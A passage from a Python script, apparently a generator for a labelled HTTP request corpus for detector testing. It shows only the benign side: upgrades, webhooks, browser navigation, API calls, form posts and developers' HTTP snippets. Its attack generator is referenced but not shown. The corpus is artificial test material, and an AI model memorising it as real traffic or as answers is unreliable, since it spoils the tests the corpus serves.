        ("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Key", wsk()), ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Protocol", "actioncable-v1-json, actioncable-unsupported"), ("Origin", "https://app.example.net")]))
    c.add("upgrade", "benign", "GET", "/graphql", sh(R, "api.example.com", "Apollo-Android/3.8.3", accept="*/*", extra=[
        ("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Key", wsk()), ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Protocol", "graphql-transport-ws")]))
    c.add("upgrade", "benign", "GET", "/", [("Host", "www.example.com"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*"),
                                            ("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQCAAAAAAIAAAAA")])
    c.add("upgrade", "benign", "GET", "/api/v1/version", [("Host", "api.example.com"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*"),
                                                          ("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQCAAAAAAIAAAAA")])

    # ---- well-known, robots, crawlers
    wk = [
        ("/.well-known/security.txt", "curl/8.5.0"),
        ("/.well-known/openid-configuration", "Microsoft.IdentityModel.Protocols/7.5.1"),
        ("/.well-known/acme-challenge/" + b64url(bytes(R.randrange(256) for _ in range(32))), "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"),
        ("/.well-known/apple-app-site-association", "AASA-Bot/1.0.0"),
        ("/.well-known/assetlinks.json", "Mozilla/5.0 (Linux; Android 14) Google-Digital-Asset-Links"),
        ("/robots.txt", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ("/sitemap.xml", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
        ("/.well-known/change-password", BROWSERS[1]),
        ("/favicon.ico", BROWSERS[2]),
        ("/.well-known/jwks.json", "okhttp/4.12.0"),
    ]
    for p, ua in wk:
        c.add("well-known", "benign", "GET", p, sh(R, R.choice(["www.example.com", "login.example.com", "shop.example.com"]), ua, accept="*/*"))

    # ---- server-sent events
    for p in ["/events/stream", "/api/v1/notifications/stream?topics=orders,shipments", "/v1/chat/completions/stream/" + uuid4(R)]:
        c.add("sse", "benign", "GET", p, bh(R, R.choice(["app.example.net", "api.example.com"]), accept="text/event-stream", extra=[
            ("Cache-Control", "no-cache"), ("Last-Event-ID", "%d-%d" % (R.randint(1715000000, 1715700000), R.randint(1, 99)))]))

    # ---- webhooks
    gh = json.dumps({"ref": "refs/heads/main", "before": hexs(R, 40), "after": hexs(R, 40), "repository": {"full_name": "acme/web"}, "pusher": {"name": "octo-dev"}})
    c.add("webhook", "benign", "POST", "/hooks/github", [("Host", "ci.example.com"), ("User-Agent", "GitHub-Hookshot/" + hexs(R, 7)), ("Accept", "*/*"),
          ("X-GitHub-Event", "push"), ("X-GitHub-Delivery", uuid4(R)), ("X-GitHub-Hook-ID", str(R.randint(10**8, 10**9))),
          ("X-Hub-Signature-256", "sha256=" + hexs(R, 64)), ("Content-Type", "application/json")], gh)
    st = json.dumps({"id": "evt_" + alnum(R, 24), "object": "event", "type": "invoice.paid", "data": {"object": {"id": "in_" + alnum(R, 24), "amount_paid": 4990, "currency": "eur"}}})
    c.add("webhook", "benign", "POST", "/webhooks/stripe", [("Host", "pay.example.net"), ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
          ("Accept", "*/*; q=0.5, application/xml"), ("Cache-Control", "no-cache"), ("Content-Type", "application/json; charset=utf-8"),
          ("Stripe-Signature", "t=%d,v1=%s,v0=%s" % (R.randint(1715000000, 1715700000), hexs(R, 64), hexs(R, 64)))], st)
    c.add("webhook", "benign", "POST", "/slack/events", [("Host", "bot.example.org"), ("User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"),
          ("Accept", "*/*"), ("Content-Type", "application/json"), ("X-Slack-Request-Timestamp", str(R.randint(1715000000, 1715700000))),
          ("X-Slack-Signature", "v0=" + hexs(R, 64))], json.dumps({"type": "event_callback", "event": {"type": "app_mention", "text": "<@U0LAN0Z89> deploy status?", "channel": "C024BE91L"}}))
    c.add("webhook", "benign", "POST", "/webhooks/orders-create", [("Host", "shop.example.com"), ("User-Agent", "Shopify-Captain-Hook"),
          ("Accept", "*/*"), ("Content-Type", "application/json"), ("X-Shopify-Topic", "orders/create"), ("X-Shopify-Shop-Domain", "example-store.myshopify.example.com"),
          ("X-Shopify-Hmac-Sha256", base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode()), ("X-Shopify-Webhook-Id", uuid4(R))],
          json.dumps({"id": 820982911946154508, "email": "jon@example.com", "total_price": "199.00", "currency": "USD"}))
    c.add("webhook", "benign", "POST", "/sms/inbound", [("Host", "api.example.net"), ("User-Agent", "TwilioProxy/1.1"), ("Accept", "*/*"),
          ("Content-Type", "application/x-www-form-urlencoded"), ("X-Twilio-Signature", base64.b64encode(bytes(R.randrange(256) for _ in range(20))).decode()),
          ("I-Twilio-Idempotency-Token", uuid4(R))],
          "ToCountry=US&SmsSid=SM" + hexs(R, 32) + "&Body=See+you+at+7%3F+%F0%9F%91%8D&From=%2B15017122661&To=%2B15558675310&NumMedia=0&ApiVersion=2010-04-01")
    c.add("webhook", "benign", "POST", "/hooks/gitlab", [("Host", "ci.example.com"), ("User-Agent", "GitLab/16.11.1"), ("Content-Type", "application/json"),
          ("X-Gitlab-Event", "Merge Request Hook"), ("X-Gitlab-Token", alnum(R, 24)), ("X-Gitlab-Event-UUID", uuid4(R)), ("Idempotency-Key", uuid4(R))],
          json.dumps({"object_kind": "merge_request", "object_attributes": {"iid": 412, "title": "Fix: handle If-Range with weak ETags", "state": "merged"}}))

    # ---- browsing with client hints and fetch metadata
    for i in range(10):
        ua = R.choice(BROWSERS)
        extra = [("Sec-Fetch-Site", R.choice(["none", "same-origin", "cross-site"])), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-User", "?1"),
                 ("Sec-Fetch-Dest", "document"), ("Upgrade-Insecure-Requests", "1")]
        if "Chrome" in ua:
            extra = [("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'), ("sec-ch-ua-mobile", "?1" if "Mobile" in ua else "?0"),
                     ("sec-ch-ua-platform", '"Android"' if "Android" in ua else '"Windows"')] + extra
        if i % 3 == 0:
            extra += [("DNT", "1"), ("Sec-GPC", "1")]
        if i % 4 == 1:
            extra += [("Save-Data", "on"), ("ECT", "3g"), ("RTT", "300"), ("Downlink", "1.35")]
        if i % 5 == 2:
            extra += [("Device-Memory", "8"), ("Viewport-Width", "1440"), ("Sec-CH-Prefers-Color-Scheme", "dark")]
        extra.append(("Priority", "u=0, i"))
        c.add("browser-navigation", "benign", "GET", R.choice(["/", "/en/", "/pricing", "/about-us", "/careers?team=engineering", "/help/shipping", "/products/category/outdoor?sort=popular", "/stores/berlin-mitte", "/news/2024/05/14/new-store", "/compare?ids=14,19"]),
              bh(R, R.choice(["www.example.com", "shop.example.com", "www.example.org"]), ua=ua, extra=extra))

    # ---- GraphQL / JSON APIs
    gql = [
        ("POST", "/graphql", {"operationName": "ProductPage", "variables": {"slug": "trail-runner-3", "locale": "de-DE"}, "query": "query ProductPage($slug: String!, $locale: String) { product(slug: $slug, locale: $locale) { id name price { amount currency } variants { sku size } } }"}),
        ("POST", "/graphql", [{"operationName": "Me", "variables": {}, "query": "query Me { me { id name } }"}, {"operationName": "Cart", "variables": {}, "query": "query Cart { cart { items { sku qty } } }"}]),
        ("GET", "/graphql?operationName=Feed&variables=" + quote(json.dumps({"first": 10})) + "&extensions=" + quote(json.dumps({"persistedQuery": {"version": 1, "sha256Hash": hexs(R, 64)}})), None),
        ("POST", "/rpc", {"jsonrpc": "2.0", "method": "eth_getBalance", "params": ["0x" + hexs(R, 40), "latest"], "id": 1}),
        ("POST", "/api/v1/search", {"query": {"bool": {"must": [{"match": {"title": "http caching"}}], "filter": [{"range": {"published": {"gte": "2024-01-01"}}}]}}, "size": 20}),
        ("POST", "/twirp/example.shop.v1.Cart/AddItem", {"sku": "SKU-12345", "quantity": 2}),
        ("POST", "/v1/projects/demo/databases/(default)/documents:runQuery", {"structuredQuery": {"from": [{"collectionId": "orders"}], "where": {"fieldFilter": {"field": {"fieldPath": "status"}, "op": "EQUAL", "value": {"stringValue": "open"}}}, "limit": 50}}),
        ("POST", "/api/v1/batch", {"requests": [{"method": "GET", "url": "/users/42"}, {"method": "GET", "url": "/users/42/orders?limit=5"}]}),
    ]
    for m, p, data in gql:
        extra = [("Origin", "https://app.example.com")]
        body = None
        if data is not None:
            extra.insert(0, ("Content-Type", "application/json"))
            body = json.dumps(data)
        else:
            extra.append(("apollo-require-preflight", "true"))
        c.add("json-api", "benign", m, p, bh(R, "api.example.com", accept="application/graphql-response+json, application/json" if "graphql" in p else ACCEPT_JSON, extra=extra), body)

    # ---- ordinary form posts
    forms = [
        ("/login", [("username", "ana.silva"), ("password", "correct horse battery staple"), ("remember_me", "on")]),
        ("/search", [("q", "rain jacket & trousers"), ("category", ""), ("price_max", "150")]),
        ("/newsletter/subscribe", [("email", "ana+news@example.com"), ("consent", "1"), ("lists[]", "weekly"), ("lists[]", "offers")]),
        ("/contact", [("name", "Zoë O'Brien"), ("email", "zoe@example.org"), ("message", "Hi! Order #88123 arrived damaged (box was wet). Can you send a replacement? Thanks :)")]),
        ("/checkout/address", [("first_name", "José"), ("last_name", "Núñez"), ("street", "Rua Augusta 100, 2º Esq."), ("zip", "1100-053"), ("city", "Lisboa"), ("country", "PT")]),
        ("/account/password", [("current_password", "Tr0ub4dor&3"), ("new_password", "p@ss-phrase-2024!"), ("new_password_confirmation", "p@ss-phrase-2024!")]),
        ("/reviews", [("rating", "4"), ("title", "Great fit, runs small"), ("body", "Ordered 42, should have taken 43. Otherwise 10/10 -- would buy again.")]),
        ("/events/rsvp", [("event_id", "774"), ("guests", "2"), ("diet", "vegetarian; no nuts"), ("comment", "")]),
    ]
    for p, fields in forms:
        host = R.choice(["www.example.com", "shop.example.com", "www.example.org"])
        c.add("form-post", "benign", "POST", p, bh(R, host, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + host),
                                                                    ("Referer", "https://%s%s" % (host, p)), ("Cookie", "sid=" + alnum(R, 32))]), urlencode(fields))


# ---------------------------------------------------------------------------
# dev-content: developers pasting HTTP into tickets, forums, docs and chat
# ---------------------------------------------------------------------------

DEV_SNIPPETS = [
    ("304 but my client shows stale data",
     "Running this:\n\n    curl -i -H 'If-None-Match: \"33a64df551425fcc55e4d42a148795d9f25f89d4\"' https://api.example.com/v1/items/42\n\n"
     "and I get back `HTTP/1.1 304 Not Modified` with `ETag: \"33a64df5\"`. Is the short ETag expected? Our SDK then keeps the old body."),
    ("CORS preflight fails on PATCH",
     "Preflight from the browser:\n\nOPTIONS /v2/orders/17 HTTP/1.1\nHost: api.example.com\nOrigin: https://app.example.com\n"
     "Access-Control-Request-Method: PATCH\nAccess-Control-Request-Headers: authorization, content-type\n\nResponse:\n\n"
     "HTTP/1.1 204 No Content\nAccess-Control-Allow-Origin: https://app.example.com\nAccess-Control-Allow-Methods: GET, POST, PUT\n\n"
     "PATCH is missing from Allow-Methods, right? Where do we configure that?"),
    ("How chunked uploads look on the wire",
     "For the docs page on streaming uploads. Each chunk is the size in hex, CRLF, the data, CRLF; a zero-size chunk ends the body and trailers may follow:\n\n"
     "POST /upload HTTP/1.1\nHost: files.example.org\nTransfer-Encoding: chunked\nTrailer: Digest\n\n"
     "1a\nabcdefghijklmnopqrstuvwxyz\n10\n1234567890abcdef\n0\nDigest: sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=\n\n"
     "Note: do not also send Content-Length when you use chunked."),
    ("nginx behind Cloudflare loses client IP",
     "Config we use:\n\n```nginx\nset_real_ip_from 203.0.113.0/24;\nreal_ip_header CF-Connecting-IP;\n"
     "proxy_set_header Host $host;\nproxy_set_header X-Real-IP $remote_addr;\nproxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n"
     "proxy_set_header X-Forwarded-Proto $scheme;\n```\n\nStill seeing the edge IP in the access log. What am I missing?"),
    ("HAProxy forwardfor and https redirect",
     "frontend fe_https\n    bind :443 ssl crt /etc/haproxy/certs/site.pem alpn h2,http/1.1\n    option forwardfor\n"
     "    http-request set-header X-Forwarded-Proto https\n    http-request set-header X-Forwarded-Port %[dst_port]\n"
     "    default_backend be_app\n\nbackend be_app\n    option httpchk GET /healthz\n    http-check expect status 200\n    server app1 192.0.2.10:8080 check"),
    ("Multi-range response parsing",
     "Requesting `Range: bytes=0-50, 100-150` gives:\n\nHTTP/1.1 206 Partial Content\nContent-Type: multipart/byteranges; boundary=3d6b6a416f9b5\n\n"
     "--3d6b6a416f9b5\nContent-Type: text/html\nContent-Range: bytes 0-50/1270\n\n...\n--3d6b6a416f9b5\nContent-Range: bytes 100-150/1270\n\n...\n--3d6b6a416f9b5--\n\n"
     "Our parser chokes on the second part because it has no Content-Type. Is that allowed?"),
    ("Resume download with If-Range",
     "```python\nimport requests\nheaders = {'Range': f'bytes={offset}-', 'If-Range': etag}\nr = requests.get(url, headers=headers, stream=True, timeout=30)\n"
     "if r.status_code == 200:\n    offset = 0  # file changed, start over\n```\n\nIs a 200 the only signal that the ETag no longer matches?"),
    ("Idempotency keys from the browser",
     "```js\nawait fetch('https://api.example.com/v1/payments', {\n  method: 'POST',\n  headers: {\n    'Content-Type': 'application/json',\n"
     "    'Idempotency-Key': crypto.randomUUID(),\n  },\n  body: JSON.stringify({ amount: 4990, currency: 'eur' }),\n});\n```\n"
     "On retry after a timeout we reuse the same key. Do we need to add it to Access-Control-Allow-Headers?"),
    ("Go client and X-HTTP-Method-Override",
     "Our corporate proxy blocks PATCH, so the Go client does:\n\n```go\nreq, _ := http.NewRequest(\"POST\", base+\"/v1/items/42\", bytes.NewReader(body))\n"
     "req.Header.Set(\"X-HTTP-Method-Override\", \"PATCH\")\nreq.Header.Set(\"Content-Type\", \"application/json\")\n```\n\nThe API docs say this is supported for PATCH only."),
    ("kube-probe lines in the access log",
     "Lots of these in our logs, are they normal?\n\n192.0.2.17 - - [14/May/2024:10:22:01 +0000] \"GET /healthz HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.29\"\n"
     "192.0.2.17 - - [14/May/2024:10:22:11 +0000] \"GET /readyz HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.29\"\n"
     "198.51.100.9 - - [14/May/2024:10:22:12 +0000] \"GET /health HTTP/1.1\" 200 15 \"-\" \"ELB-HealthChecker/2.0\""),
    ("traceparent format",
     "W3C Trace Context example:\n\ntraceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\ntracestate: congo=t61rcWkgMzE,rojo=00f067aa0ba902b7\n"
     "baggage: userId=alice,serverNode=DF%2028,isProduction=false\n\nversion-traceid-parentid-flags; flags 01 means sampled."),
    ("413 with Expect: 100-continue",
     "curl -v output:\n\n> PUT /v1/objects/big.bin HTTP/1.1\n> Host: files.example.org\n> User-Agent: curl/8.5.0\n> Content-Length: 104857600\n"
     "> Expect: 100-continue\n>\n< HTTP/1.1 413 Payload Too Large\n< Connection: close\n\nServer rejects before the body is sent. Which limit is that, client_max_body_size?"),
    ("Redirect loop behind the load balancer",
     "* Connected to www.example.com (203.0.113.10) port 443\n> GET / HTTP/2\n> Host: www.example.com\n> user-agent: curl/8.5.0\n> accept: */*\n>\n"
     "< HTTP/2 301\n< location: https://www.example.com/\n< server: nginx\n\nThe app thinks the request is plain http. The LB sets X-Forwarded-Proto but the framework ignores it."),
    ("HAR excerpt for the failing upload",
     json.dumps({"log": {"entries": [{"request": {"method": "POST", "url": "https://files.example.org/api/uploads", "httpVersion": "HTTP/2",
                                                   "headers": [{"name": "content-type", "value": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
                                                               {"name": "origin", "value": "https://app.example.com"}]},
                                       "response": {"status": 502, "headers": [{"name": "via", "value": "1.1 google"}]}}]}}, indent=2)),
    ("Cache-Control cheat sheet",
     "Static, fingerprinted assets: `Cache-Control: public, max-age=31536000, immutable`\nHTML: `Cache-Control: no-cache` (revalidate with ETag)\n"
     "Private data: `Cache-Control: private, no-store`\nAdd `Vary: Accept-Encoding` when compressing. Pragma: no-cache only matters for HTTP/1.0 caches."),
    ("Forwarded vs X-Forwarded-For",
     "RFC 7239 form:\n\nForwarded: for=192.0.2.60;proto=http;by=203.0.113.43\nForwarded: for=\"[2001:db8:cafe::17]:4711\"\n\nLegacy form:\n\n"
     "X-Forwarded-For: 203.0.113.195, 2001:db8:85a3::8a2e:370:7334, 198.51.100.178\n\nOnly trust the rightmost entries added by your own proxies."),
    ("Postman export: JSON Patch request",
     json.dumps({"info": {"name": "Orders API"}, "item": [{"name": "Patch order", "request": {"method": "PATCH",
                 "header": [{"key": "Content-Type", "value": "application/json-patch+json"}, {"key": "If-Match", "value": "\"v14\""}],
                 "url": "{{baseUrl}}/orders/88123", "body": {"mode": "raw", "raw": "[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"shipped\"}]"}}}]}, indent=2)),
    ("Liveness probe with custom header",
     "```yaml\nlivenessProbe:\n  httpGet:\n    path: /healthz\n    port: 8080\n    httpHeaders:\n    - name: X-Probe\n      value: kubelet\n"
     "  initialDelaySeconds: 10\n  periodSeconds: 5\n```\nThe probe shows up with User-Agent kube-probe/1.29."),
    ("Webhook signature mismatch",
     "We receive:\n\nX-Hub-Signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17\nX-GitHub-Event: push\n\n"
     "and compute HMAC-SHA256 over the parsed-and-reserialised JSON. Should we hash the raw body bytes instead?"),
    ("GitLab API: project path needs %2F",
     "curl --header \"PRIVATE-TOKEN: <your_access_token>\" \"https://gitlab.example.com/api/v4/projects/group%2Fsubgroup%2Fproject/repository/files/app%2Fmodels%2Fuser.rb?ref=main\"\n\n"
     "If the proxy decodes %2F into / you get a 404."),
    ("Apache and encoded slashes",
     "<VirtualHost *:443>\n    ServerName git.example.com\n    AllowEncodedSlashes NoDecode\n    ProxyPass / http://192.0.2.20:8080/ nocanon\n"
     "    ProxyPassReverse / http://192.0.2.20:8080/\n    RequestHeader set X-Forwarded-Proto \"https\"\n</VirtualHost>"),
    ("Prefer header in our OData gateway",
     "`Prefer: return=minimal` -> 204 with Preference-Applied: return=minimal\n`Prefer: respond-async, wait=10` -> 202 Accepted plus Location of a status monitor\n"
     "`Prefer: odata.maxpagesize=50` -> @odata.nextLink in the body"),
    ("Prometheus scrape config",
     "scrape_configs:\n  - job_name: api\n    metrics_path: /metrics\n    scrape_interval: 15s\n    scrape_timeout: 10s\n    static_configs:\n"
     "      - targets: ['192.0.2.31:9100', '192.0.2.32:9100']\n    relabel_configs:\n      - source_labels: [__address__]\n        target_label: instance"),
    ("Varnish: keying on scheme",
     "sub vcl_hash {\n    hash_data(req.url);\n    if (req.http.host) { hash_data(req.http.host); } else { hash_data(server.ip); }\n"
     "    hash_data(req.http.X-Forwarded-Proto);\n    return (lookup);\n}\n\nOtherwise http and https variants share a cache entry."),
    ("Accept header negotiation",
     "Browser sends `Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8` and `Accept-Language: fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5`.\n"
     "Our API client sends `Accept: application/vnd.example.v2+json, application/json;q=0.8`. Server picks the highest q that it can produce."),
    ("Hardening checklist for the edge proxy",
     "- normalise requests before routing and cache-key computation\n- reject requests that carry both Content-Length and Transfer-Encoding, or several Content-Length values\n"
     "- strip inbound X-Forwarded-* from untrusted clients and set them at the edge\n- keep HTTP/2 end to end where possible\n- log the Via chain"),
    ("Testing an HTTP/1.0 server with netcat",
     "printf 'GET / HTTP/1.0\\r\\nHost: www.example.com\\r\\n\\r\\n' | nc www.example.com 80\n\nThe server replies with HTTP/1.0 200 OK and closes the connection, no keep-alive."),
    ("WebSocket handshake from the RFC",
     "GET /chat HTTP/1.1\nHost: server.example.com\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\n"
     "Origin: http://example.com\nSec-WebSocket-Protocol: chat, superchat\nSec-WebSocket-Version: 13\n\nServer answers 101 with Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo="),
    ("Cookie attributes after the SameSite change",
     "Set-Cookie: id=a3fWa; Expires=Thu, 21 Oct 2025 07:28:00 GMT; Secure; HttpOnly; SameSite=Lax\nSet-Cookie: __Host-session=abc123; Path=/; Secure; HttpOnly; SameSite=Strict\n\n"
     "__Host- prefix requires Secure, Path=/ and no Domain attribute."),
    ("Envoy: trusting the right XFF hop",
     "http_connection_manager:\n  use_remote_address: true\n  xff_num_trusted_hops: 1\n  skip_xff_append: false\n\n"
     "With one trusted hop Envoy takes the second-rightmost X-Forwarded-For entry as the client address."),
    ("Pagination via Link header",
     "Link: <https://api.example.com/repos?page=3&per_page=100>; rel=\"next\", <https://api.example.com/repos?page=50&per_page=100>; rel=\"last\"\n\n"
     "Parse rel=\"next\" until it disappears instead of computing pages yourself."),
    ("Sending a gzip-compressed body",
     "curl -X POST https://api.example.com/v1/events \\\n  -H 'Authorization: Bearer $TOKEN' \\\n  -H 'Content-Type: application/json' \\\n"
     "  -H 'Content-Encoding: gzip' \\\n  --data-binary @events.json.gz\n\nContent-Length must be the compressed size."),
    ("Raw request from our support ticket",
     "Customer pasted this from Fiddler:\n\nPOST https://shop.example.com/api/cart/items HTTP/1.1\nHost: shop.example.com\nConnection: keep-alive\n"
     "Content-Type: application/json\nCookie: sid=8b1f...; _ga=GA1.1.123.456\n\n{\"sku\":\"SKU-12345\",\"qty\":2}\n\nThey get 419 Page Expired."),
]


def dev_wrap(c, idx, title, text, w):
    R = c.R
    ua = R.choice(BROWSERS)
    if w == 0:
        c.add("dev-content", "dev-content", "POST", "/api/v2/tickets", bh(R, "support.example.com", ua=ua, accept=ACCEPT_JSON, extra=[
            ("Content-Type", "application/json"), ("Origin", "https://support.example.com"), ("X-CSRF-Token", alnum(R, 43))]),
            json.dumps({"subject": title, "description": text, "priority": R.choice(["low", "normal", "high"]), "tags": ["api", "http"]}))
    elif w == 1:
        c.add("dev-content", "dev-content", "POST", "/posts.json", bh(R, "forum.example.org", ua=ua, accept=ACCEPT_JSON, extra=[
            ("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest"),
            ("Discourse-Logged-In", "true"), ("X-CSRF-Token", alnum(R, 86))]),
            urlencode([("title", title), ("raw", text), ("category", str(R.randint(3, 20))), ("archetype", "regular")]))
    elif w == 2:
        c.add("dev-content", "dev-content", "PUT", "/api/pages/%d" % R.randint(1000, 9999), bh(R, "docs.example.org", ua=ua, accept=ACCEPT_JSON, extra=[
            ("Content-Type", "application/json"), ("Authorization", "Bearer " + alnum(R, 40))]),
            json.dumps({"title": title, "markdown": "## " + title + "\n\n" + text, "version": R.randint(2, 40)}))
    elif w == 3:
        c.add("dev-content", "dev-content", "POST", "/api/gists", sh(R, "code.example.com", "gh/2.49.0 (linux; amd64)", extra=[
            ("Content-Type", "application/json; charset=utf-8"), ("Authorization", "token gho_" + alnum(R, 36))]),
            json.dumps({"description": title, "public": False, "files": {"notes-%d.md" % idx: {"content": text}}}))
    elif w == 4:
        c.add("dev-content", "dev-content", "POST", "/graphql", bh(R, "community.example.com", ua=ua, accept="application/json", extra=[
            ("Content-Type", "application/json"), ("Origin", "https://community.example.com")]),
            json.dumps({"operationName": "CreateComment", "variables": {"threadId": "T_%s" % alnum(R, 12), "body": text},
                        "query": "mutation CreateComment($threadId: ID!, $body: String!) { createComment(threadId: $threadId, body: $body) { id } }"}))
    elif w == 5:
        c.add("dev-content", "dev-content", "POST", "/kb/articles/%d/revisions" % R.randint(100, 999), bh(R, "kb.example.net", ua=ua, accept=ACCEPT_JSON, extra=[
            ("Content-Type", "text/markdown; charset=utf-8"), ("Cookie", "kb_session=" + alnum(R, 40))]),
            "# " + title + "\n\n" + text + "\n")
    elif w == 6:
        c.add("dev-content", "dev-content", "POST", "/api/chat.postMessage", sh(R, "chat.example.com", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) ChatDesktop/4.38.125 Chrome/122.0.6261.156 Electron/29.3.0 Safari/537.36", extra=[
            ("Content-Type", "application/json; charset=utf-8"), ("Authorization", "Bearer xoxc-" + alnum(R, 50))]),
            json.dumps({"channel": "C0%s" % alnum(R, 8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), "text": text, "unfurl_links": False}))
    else:
        b = "----WebKitFormBoundary" + alnum(R, 16)
        body = ("--%s\r\nContent-Disposition: form-data; name=\"subject\"\r\n\r\n%s\r\n"
                "--%s\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"request-%d.txt\"\r\nContent-Type: text/plain\r\n\r\n%s\r\n"
                "--%s--\r\n") % (b, title, b, idx, text, b)
        c.add("dev-content", "dev-content", "POST", "/tickets/new", bh(R, "helpdesk.example.com", ua=ua, extra=[
            ("Content-Type", "multipart/form-data; boundary=" + b), ("Origin", "https://helpdesk.example.com")]), body)


def benign_dev(c):
    for i, (title, text) in enumerate(DEV_SNIPPETS):
        dev_wrap(c, i, title, text, i % 8)
        dev_wrap(c, i + 100, title, text, (i + 3) % 8)


def gen_benign(c):
    benign_edges(c)
    benign_headers(c)
    benign_methods(c)
    benign_urls(c)
    benign_clients(c)
    benign_dev(c)


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-httpsem.py attacks|benign\n")
        sys.exit(2)
    c = Corpus(sys.argv[1])
    if c.mode == "attacks":
        gen_attacks(c)
    else:
        gen_benign(c)
    out = sys.stdout
    for item in c.items:
        out.write(json.dumps(item, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
